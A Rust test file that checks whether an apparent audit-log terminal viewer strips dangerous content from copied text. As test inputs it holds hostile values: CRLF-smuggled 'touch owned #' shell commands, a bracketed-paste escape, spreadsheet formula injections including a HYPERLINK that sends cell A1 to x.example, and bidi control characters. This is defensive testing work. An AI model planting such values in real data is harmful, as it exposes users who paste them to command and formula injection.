//! What is copied can be pasted into a shell and a spreadsheet; what was logged is there on request.
//! Never sends anything to a real clipboard.

use super::session::{Session, deliveries};

fn session(actor: &str, target: &str) -> Session {
    let text = |text: &str| serde_json::to_string(text).expect("a text");
    let record = format!(
        r#"{{"id":"Directory_7","category":"UserManagement","correlationId":"0a1b2c3d-2f1e-404e-a5d0-8062ba63f001","result":"success","activityDisplayName":"Update user","activityDateTime":"2026-11-02T08:00:00Z","loggedByService":"Core Directory","initiatedBy":{{"user":{{"id":"a1","displayName":null,"userPrincipalName":{},"ipAddress":"192.0.2.1"}}}},"targetResources":[{{"id":"t1","displayName":{},"type":"User","modifiedProperties":[]}}],"additionalDetails":[]}}"#,
        text(actor),
        text(target)
    );
    let deliveries = deliveries("audit.ndjson", record.into_bytes());
    Session::loaded("audit.ndjson", &deliveries, 120, 40)
}

#[test]
fn what_is_copied_neither_runs_in_a_shell_nor_calculates() {
    for (actor, target) in [
        ("eve@fern.example\r\ntouch owned #\r\n", "Bob\u{1b}[201~\r\ntouch owned #\r\n"),
        ("=HYPERLINK(\"http://x.example?\"&A1)", "x;=1+1"),
        ("@SUM(1)", "+1"),
        ("-1+2", "\u{2028}ls\u{85}"),
        ("\t=1+1", "a\tb"),
    ] {
        let mut session = session(actor, target);
        // Row, sentence, the query of the actor, then every line of the detail.
        session.keys("yrys").keys("<tab>");
        for _ in 0..12 {
            session.keys("yv<esc>j");
        }
        session.keys("g+yq");
        for letter in ["o", "w"] {
            session.keys("y").keys(letter).keys("<esc>");
        }
        assert!(session.copied.len() > 14, "{:?}", session.copied);
        for (at, copied) in session.copied.iter().enumerate() {
            let cells = copied.split('\t').filter(|_| at == 0).chain([copied.as_str()]);
            for cell in cells {
                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
                assert!(!cell.contains(";="), "{cell:?}");
            }
            let breaks = copied.chars().filter(|c| c.is_control() && *c != '\t').count();
            let is_code = copied.lines().any(|line| line.starts_with("Get-Mg"));
            assert!(breaks == 0 || is_code && !copied.contains("\ntouch"), "{copied:?}");
        }
    }
}

#[test]
fn what_was_logged_is_copied_on_request() {
    let actor = "eve@fern.example\r\ntouch owned #";
    let mut session = session(actor, "Bob");
    session.keys("<tab>yVyj");
    assert!(session.copied[0].contains(actor), "{:?}", session.copied);
    assert!(session.copied[1].starts_with("{\"id\":\"Directory_7\""), "{:?}", session.copied);
    // The record itself is one line of JSON, and has nothing in it that drives a terminal.
    let mut session = super::copying::session("a\u{9b}\u{202e}b", "c\u{7f}\u{e0041}d");
    session.keys("yj").keys("yJ");
    let [safe, logged] = &session.copied[..] else { unreachable!("{:?}", session.copied) };
    assert!(safe.chars().all(|c| !c.is_control() && !entrail::text::is_invisible(c)), "{safe:?}");
    assert!(logged.contains("a\u{9b}\u{202e}b"), "{logged:?}");
    let value = |text: &str| serde_json::from_str::<serde_json::Value>(text).expect("JSON");
    assert_eq!(value(safe), value(logged));
    // Where both are the same, one is offered.
    let mut session = super::copying::session("eve@fern.example", "Bob");
    session.keys("<tab>y");
    assert!(!session.screen().contains("as logged"), "{}", session.screen());
}
